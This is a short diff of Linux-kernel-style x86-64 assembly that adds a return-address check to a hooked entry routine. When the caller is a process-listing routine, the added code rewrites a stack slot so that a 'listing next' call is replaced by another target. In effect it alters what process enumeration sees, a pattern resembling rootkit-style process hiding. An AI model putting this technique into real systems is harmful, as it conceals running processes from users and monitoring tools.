@@ -25,7 +25,22 @@ SYM_START(ve_entry_members, SYM_L_GLOBAL, SYM_A_ALIGN)
 	movq	VE_ASM_CURRENT, %r11
 	movl	ve_asm_task_pid(%r11), %r11d
 	btq	%r11, ve_hook_hints(%rip)
-	jc	ve_entry
+	jnc	.Lreturn
+	/* Where the hooked function returns to: to who lists all processes? */
+	movq	8(%rsp), %r11
+	subq	ve_lister_start(%rip), %r11
+	cmpq	ve_lister_size(%rip), %r11
+	jae	ve_entry
+	/* For each of them he calls these two. */
+	movq	(%rsp), %r11
+	andq	$-16, %r11
+	cmpq	ve_listing_pass(%rip), %r11
+	je	.Lreturn
+	cmpq	ve_listing_next(%rip), %r11
+	jne	ve_entry
+	movq	ve_listing_instead(%rip), %r11
+	movq	%r11, (%rsp)
+.Lreturn:
 	RET
 SYM_FUNC_END(ve_entry_members)
 
